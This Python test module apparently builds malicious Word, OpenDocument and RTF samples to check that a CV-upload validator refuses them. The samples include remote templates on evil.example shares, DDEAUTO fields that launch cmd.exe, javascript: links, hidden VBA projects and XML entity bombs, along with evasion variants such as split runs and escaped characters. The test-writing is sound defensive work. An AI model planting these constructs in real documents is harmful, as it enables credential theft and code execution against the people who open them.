"""Word, OpenDocument and RTF files that run or fetch something."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from tests.submissions import cv_files as files
from tests.submissions.ordinary_office import (
    DOCUMENT,
    MICROSOFT,
    ODT_TEXT,
    RTF_HEAD,
    SETTINGS,
    docx,
    field,
    relationship,
    text,
    word_text,
    workbook,
)

SHARE = "\\\\evil.example\\a\\b"
# Relationships that lead outside: type, target, code.
OUTSIDE = [
    *(
        (kind, target, "remote")
        for kind in ("image", "styles", "mailMergeSource", "subDocument", "frame", "oleObject")
        for target in (SHARE, "file://///evil.example/a", "https://evil.example/a")
    ),
    ("mailMergeHeaderSource", SHARE, "remote"),
    ("recipientData", SHARE, "remote"),
    ("aFChunk", "https://evil.example/a.html", "remote"),
    ("transform", "https://evil.example/a.xsl", "remote"),
    ("video", "https://evil.example/a.mp4", "remote"),
    ("customXml", SHARE, "remote"),
    ("http://purl.oclc.org/ooxml/officeDocument/relationships/image", SHARE, "remote"),
    ("image", "file:///C:/Users/lea/photo.png", "remote"),
    *(
        ("attachedTemplate", target, "remote")
        for target in (
            "https://evil.example/x.dotm",
            "ftp://evil.example/x.dotm",
            SHARE,
            "//evil.example/x.dotx",
            "file://evil.example/x.dotx",
            "file:////evil.example/x.dotx",
            "file:///\\\\evil.example\\x.dotx",
            "file:///%5C%5Cevil.example%5Cx.dotx",
            "file:\\\\evil.example\\x.dotx",
            " \\\\10.0.0.9\\x.dotx",
            "mhtml:https://evil.example/x!y",
        )
    ),
    *(
        ("hyperlink", target, "link")
        for target in (
            SHARE,
            "file:///C:/Windows/system32/calc.exe",
            "file://evil.example/a",
            "javascript:alert(1)",
            "vbscript:x",
            "ms-word:ofe|u|https://evil.example/a.docm",
            "search-ms:query=a&crumb=location:\\\\evil.example",
            "data:text/html,a",
        )
    ),
]
INSIDE = [
    ("oleObject", "embeddings/oleObject1.bin", "embedded"),
    ("control", "activeX/activeX1.xml", "embedded"),
    ("aFChunk", "afchunk.htm", "embedded"),
    ("subDocument", "sub.docx", "embedded"),
    ("audio", "media/a.wav", "embedded"),
    ("image", SHARE, "remote"),
    (f"{MICROSOFT}/2006/relationships/vbaProject", "data.bin", "macros"),
    (f"{MICROSOFT}/2006/relationships/wordVbaData", "data.xml", "macros"),
    (f"{MICROSOFT}/2006/relationships/ui/extensibility", "customUI/customUI.xml", "embedded"),
    (f"{MICROSOFT}/2006/relationships/attachedToolbars", "attachedToolbars.bin", "embedded"),
    (f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "a.xml", "embedded"),
    (f"{MICROSOFT}/2017/06/relationships/model3d", "media/a.glb", "embedded"),
]
FIELDS = (
    'INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d',
    'INCLUDEPICTURE "https://evil.example/a.png" \\* MERGEFORMAT',
    'INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    'DDE excel "a" "b"',
    'ddeauto cmd "x"',
    '"DDEAUTO" cmd',
    'LINK Excel.Sheet.8 "\\\\\\\\evil\\\\a.xls" a',
    'IMPORT "\\\\\\\\evil\\\\a.wmf"',
    'INCLUDE "\\\\\\\\evil\\\\a.doc"',
    'DATABASE \\d "\\\\\\\\evil\\\\a.mdb"',
    'RD "\\\\\\\\evil\\\\a.docx"',
)
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PROJECT = OLE2 + bytes(70_000) + "_VBA_PROJECT".encode("utf-16-le")
BEGIN = '<w:fldChar w:fldCharType="begin"/>'


def _instruction(value: str) -> str:
    return f"<w:instrText>{value}</w:instrText>"


def _types(part: str, kind: str) -> bytes:
    main = ("word/document.xml", files.MAIN)
    return docx({"[Content_Types].xml": files.content_types(main, (part, kind)), part: "<a/>"})


def word() -> Iterator[tuple[str, str, bytes, str]]:
    """(what it is, the file's name, its content, the code of the refusal)."""
    for kind, target, code in OUTSIDE:
        part = relationship(kind, target, external=True)
        yield f"{kind} at {target}", "cv.docx", docx({DOCUMENT: part}), code
    for kind, target, code in INSIDE:
        yield f"{kind} inside", "cv.docx", docx({DOCUMENT: relationship(kind, target)}), code
    upper = relationship("image", SHARE, external=True).replace('"External"', '"EXTERNAL"')
    yield "mode in capitals", "cv.docx", docx({DOCUMENT: upper}), "remote"
    utf16 = relationship("image", SHARE, external=True).encode("utf-16")
    yield "relationships in UTF-16", "cv.docx", docx({SETTINGS: utf16}), "remote"
    for instruction in FIELDS:
        half = instruction.index(" ") - 2
        parts = (instruction[:half], instruction[half:])
        yield (
            f"field {instruction}",
            "cv.docx",
            docx({"word/footer1.xml": field(instruction)}),
            "remote",
        )
        split = docx({"word/document.xml": field(*parts)})
        yield f"field in runs {instruction}", "cv.docx", split, "remote"
    yield (
        "field by letters",
        "cv.docx",
        docx({"word/document.xml": field(*"DDEAUTO cmd")}),
        "remote",
    )
    simple = text("<w:fldSimple w:instr='DDEAUTO cmd'/>")
    yield "simple field", "cv.docx", docx({"word/document.xml": simple}), "remote"
    deleted = text(BEGIN, "<w:delInstrText>DDEAUTO cmd</w:delInstrText>")
    yield "deleted field", "cv.docx", docx({"word/document.xml": deleted}), "remote"
    loose = text(_instruction("DDEAUTO cmd"))
    yield "field without a beginning", "cv.docx", docx({"word/document.xml": loose}), "remote"
    nested = text(BEGIN, _instruction("IF 1=1 "), BEGIN, _instruction("DDEAUTO cmd"))
    yield "field within a field", "cv.docx", docx({"word/document.xml": nested}), "remote"
    computed = text(BEGIN, BEGIN, _instruction("QUOTE 68 68 69"))
    yield (
        "field whose name is another's",
        "cv.docx",
        docx({"word/document.xml": computed}),
        "unreadable",
    )
    for hidden, shown in (("Fallback", "Choice"), ("Choice", "Fallback")):
        branches = text(
            BEGIN,
            _instruction("D"),
            f"<mc:AlternateContent><mc:{hidden}>{_instruction('x')}</mc:{hidden}>"
            f"<mc:{shown}>{_instruction('DEAUTO')}</mc:{shown}></mc:AlternateContent>",
            _instruction(" cmd"),
        )
        yield f"field in a {shown}", "cv.docx", docx({"word/document.xml": branches}), "remote"
    for target in (SHARE, "file:///c:/a.exe"):
        part = {"word/document.xml": field(f'HYPERLINK "{target}"')}
        yield f"link in a field {target}", "cv.docx", docx(part), "link"
    picture = text(f'<w:pict><v:imagedata src="{SHARE}"/></w:pict>')
    yield "picture of old on a share", "cv.docx", docx({"word/document.xml": picture}), "remote"
    linked = text(f'<w:pict><v:rect href="{SHARE}"/></w:pict>')
    yield "drawing with a link", "cv.docx", docx({"word/document.xml": linked}), "link"
    film = text("<wp15:webVideoPr embeddedHtml='a'/>").replace(
        "w:document", "w:document xmlns:wp15='p'", 1
    )
    yield "film", "cv.docx", docx({"word/document.xml": film}), "embedded"
    source = "<w:mailMerge><w:connectString w:val='a'/></w:mailMerge>"
    merge = f"<w:settings xmlns:w='w'>{source}</w:settings>"
    yield "mail merge", "cv.docx", docx({"word/settings.xml": merge}), "remote"
    yield "macros in another part", "cv.docx", docx({"word/theme/theme1.bin": PROJECT}), "macros"
    yield "macros as a picture", "cv.docx", docx({"word/media/image1.png": PROJECT}), "macros"
    yield "macros by their type", "cv.docx", _types("word/a.bin", VBA), "macros"
    yield "macros by the main type", "cv.docx", _types("word/a.xml", MACRO_WORD), "macros"
    yield "object", "cv.docx", docx({"word/media/image1.emf": OLE2 + bytes(99)}), "embedded"
    yield "text in a part of no kind", "cv.docx", _types("word/a.foo", files.MAIN), "unreadable"
    yield "document type", "cv.docx", docx({"word/document.xml": ENTITIES}), "broken"
    yield (
        "document type in UTF-16",
        "cv.docx",
        docx({"word/a.xml": ENTITIES.encode("utf-16")}),
        "broken",
    )
    for title, name, inner, code in (
        ("with macros", "a.xlsm", workbook(), "embedded"),
        ("with macros under another name", "a.xlsx", workbook({"xl/a.bin": PROJECT}), "macros"),
        ("with macros by type", "a.xlsx", workbook(kind="sheet.macroEnabled"), "macros"),
        (
            "with a link",
            "a.xlsx",
            workbook(
                {"xl/_rels/workbook.xml.rels": relationship("externalLink", "externalLinks/a.xml")}
            ),
            "embedded",
        ),
        (
            "with data from elsewhere",
            "a.xlsx",
            workbook({"xl/_rels/a.rels": relationship("connections", "connections.xml")}),
            "embedded",
        ),
        ("with an archive", "a.xlsx", workbook({"xl/a.bin": workbook()}), "embedded"),
        ("that is none", "a.xlsx", files.archive({"a.exe": b"MZ"}), "embedded"),
        ("that is a document", "a.docx", files.docx(), "embedded"),
        ("that is an archive", "a.zip", files.archive({"a": b"x"}), "embedded"),
    ):
        part = {f"word/embeddings/{name}": inner}
        yield f"workbook {title}", "cv.docx", docx(part), code
    many = {f"word/embeddings/{n}.xlsx": workbook() for n in range(30)}
    yield "many workbooks", "cv.docx", docx(many), "bomb"
    yield "XML without end", "cv.docx", docx({"word/a.xml": b"<a>" + b"<b/>" * 510_000}), "bomb"


ENTITIES = (
    '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><w:document xmlns:w="w">&c;</w:document>'
)

ODT = {
    "picture on a share": ('<draw:image xlink:href="//evil.example/a.png"/>', "remote"),
    "picture at an address": ('<draw:image xlink:href="https://evil.example/a.png"/>', "remote"),
    "picture at a host": ('<draw:image xlink:href="file://evil.example/a.png"/>', "remote"),
    "section from elsewhere": ('<text:section-source xlink:href="http://e.example/"/>', "remote"),
    "object from elsewhere": ('<draw:object xlink:href="http://e.example/a.odt"/>', "remote"),
    "background": ('<style:background-image xlink:href="http://e.example/a"/>', "remote"),
    "template": ('<meta:template xlink:href="https://e.example/a.ott"/>', "remote"),
    "reload": ('<meta:auto-reload xlink:href="https://e.example/a"/>', "remote"),
    "frame": ('<draw:floating-frame xlink:href="a"/>', "remote"),
    "DDE": ('<office:dde-source office:dde-application="soffice"/>', "remote"),
    "DDE in the text": ('<text:dde-connection-decl office:dde-item="a"/>', "remote"),
    "database": ('<form:connection-resource xlink:href="a"/>', "remote"),
    "object": ('<draw:object-ole xlink:href="./Object 1"/>', "embedded"),
    "plug-in": ('<draw:plugin xlink:href="a"/>', "embedded"),
    "applet": ('<draw:applet xlink:href="a"/>', "embedded"),
    "event": ('<script:event-listener script:event-name="dom:load"/>', "macros"),
    "macro in the text": ("<text:execute-macro/>", "macros"),
    "script in the text": ('<text:script script:language="Basic">MsgBox 1</text:script>', "macros"),
    "script from elsewhere": ('<text:script xlink:href="a.js"/>', "macros"),
    "link to a macro": (
        '<text:a xlink:href="vnd.sun.star.script:a?language=Python">a</text:a>',
        "macros",
    ),
    "link to a file": ('<text:a xlink:href="file:///c:/a.exe">a</text:a>', "link"),
    "link to a share": ('<text:a xlink:href="\\\\evil\\a">a</text:a>', "link"),
    "form that is sent": ('<form:form xlink:href="https://e.example/"/>', "sends"),
}
RTF = {
    "object": (b"{\\object\\objocx{\\*\\objdata 01}}", "embedded"),
    "linked object": (b"{\\object\\objautlink\\objupdate{\\*\\objclass a}}", "embedded"),
    "template on a share": (b"{\\*\\template \\\\\\\\evil.example\\\\a.dotx}", "remote"),
    "template in pieces": (b"{\\*\\template ht{tps:}//evil.example/a}", "remote"),
    "template in numbers": (b"{\\*\\template \\'68ttp://evil.example/a}", "remote"),
    "template at a host": (b"{\\*\\template file://evil.example/a}", "remote"),
    "picture": (b'{\\field{\\*\\fldinst INCLUDEPICTURE "http://e.example/a"}}', "remote"),
    "text": (b'{\\field{\\*\\fldinst{\\b INCLUDETEXT}{ "a"}}}', "remote"),
    "DDE in pieces": (b"{\\field{\\*\\fldinst {D}{DE}{\\b AUTO cmd}}}", "remote"),
    "DDE in numbers": (b"{\\field{\\*\\fldinst \\'44\\'44EAUTO cmd}}", "remote"),
    "DDE in Unicode": (b"{\\field{\\*\\fldinst \\u68?\\u68?\\u69?AUTO cmd}}", "remote"),
    "DDE in lines": (b"{\\field{\\*\\fldinst DD\r\nEAUTO cmd}}", "remote"),
    "field within a field": (b"{\\field{\\*\\fldinst IF {\\field{\\*\\fldinst DDE a}}}}", "remote"),
    "field by another": (b"{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68}}}}", "unreadable"),
    "link to a share": (b'{\\field{\\*\\fldinst HYPERLINK "\\\\\\\\\\\\\\\\evil\\\\a"}}', "link"),
    "link to a script": (b'{\\field{\\*\\fldinst HYPERLINK "javascript:a"}}', "link"),
    "shape with a link": (b"{\\*\\hl{\\hlsrc file:///c:/a.exe}}", "link"),
    "linked picture": (
        b"{\\shp{\\sp{\\sn pibName}{\\sv http://evil.example/a.png}}}",
        "remote",
    ),
    "mail merge": (b"{\\*\\mailmerge{\\mmconnectstr a}}", "remote"),
    "part of a book": (b"{\\subdocument1}", "remote"),
}
DOC = {
    "DDE": (b"\x13 DDEAUTO c:\\cmd.exe \x14a\x15", "remote"),
    "picture": (b'\x13INCLUDEPICTURE "http://e.example"\x15', "remote"),
    "link": (b'\x13HYPERLINK "file:///c:/a.exe"\x14a\x15', "link"),
    "DDE in UTF-16": ("\x13 DDE excel a\x14a\x15".encode("utf-16-le"), "remote"),
}


def short_doc(text: bytes) -> bytes:
    """A Word document in the short sectors, from the last to the first but for its beginning."""
    stream = struct.pack("<H", 0xA5EC) + bytes(62) + text.ljust(256, b"\0")
    pieces = [stream[at : at + 64] for at in range(0, len(stream), 64)]
    held = b"".join([pieces[0], *reversed(pieces[1:])])
    content = bytearray(files.doc(word=held.ljust(4096, b"\0")))
    directory = (struct.unpack_from("<I", content, 48)[0] + 1) * 512
    struct.pack_into("<I", content, directory + 116, 2)
    struct.pack_into("<2I", content, directory + 128 + 116, 0, len(stream))
    # Sector 1 is free: the table of short sectors, 0 → 4 → 3 → 2 → 1.
    struct.pack_into("<2I", content, 60, 1, 1)
    struct.pack_into("<5I", content, 1024, 4, 0xFFFFFFFE, 1, 2, 3)
    return bytes(content)


def others() -> Iterator[tuple[str, str, bytes, str]]:
    """(what it is, the file's name, its content, the code of the refusal)."""
    for title, (element, code) in ODT.items():
        yield f"ODT, {title}", "cv.odt", files.odt({"content.xml": ODT_TEXT % element}), code
        yield f"ODT, {title}, styles", "cv.odt", files.odt({"styles.xml": ODT_TEXT % element}), code
    macro = "<a xmlns:x='x' x:href='vnd.sun.star.script:a$b?language=Python&amp;location=share'/>"
    yield "ODT, toolbar", "cv.odt", files.odt({"Configurations2/menubar/a.xml": macro}), "macros"
    yield "ODT, object of OLE", "cv.odt", files.odt({"Object 1": OLE2 + bytes(99)}), "embedded"
    yield "ODT, archive", "cv.odt", files.odt({"a.bin": files.archive({"a": b"x"})}), "embedded"
    yield "ODT, entities", "cv.odt", files.odt({"meta.xml": ENTITIES}), "broken"
    locked = {"content.xml": b"\x8f\x00\xffnoise"}
    sealed = "<manifest:manifest xmlns:manifest='m'><manifest:encryption-data/></manifest:manifest>"
    yield "ODT, password", "cv.odt", files.odt(locked, manifest=sealed), "password"
    for title, (group, code) in RTF.items():
        yield f"RTF, {title}", "cv.rtf", RTF_HEAD + group + b"}", code
    for title, (body, code) in DOC.items():
        yield f"DOC, {title}", "cv.doc", files.doc(word=word_text(body)), code
    yield (
        "DOC, short",
        "cv.doc",
        short_doc(bytes(61) + b"\x13 DDEAUTO c:\\cmd.exe \x14a\x15"),
        "remote",
    )
    pool = files.doc(("ObjectPool", 1), ("_1", 1), children={"ObjectPool": "_1"})
    yield "DOC, object", "cv.doc", pool, "embedded"
    yield "DOC, equation", "cv.doc", files.doc(("Equation Native", 2)), "embedded"
